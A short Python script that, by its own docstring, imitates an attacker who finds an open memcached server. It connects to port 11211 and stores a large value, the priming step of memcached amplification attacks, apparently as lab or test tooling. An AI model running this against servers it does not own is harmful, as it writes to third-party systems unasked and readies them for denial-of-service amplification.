"""Stores one large value in a memcached over TCP, as an attacker who finds it open does.

usage: prime_memcached.py ADDRESS KEY VALUE_BYTES
"""

import socket
import sys


def main():
    address, key, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
    with socket.create_connection((address, 11211), timeout=5) as connection:
        connection.sendall(f"set {key} 0 0 {size}\r\n".encode() + b"x" * size + b"\r\n")
        answer = connection.recv(64)
    if answer != b"STORED\r\n":
        sys.exit(f"memcached at {address} answered {answer!r} to set")


if __name__ == "__main__":
    main()
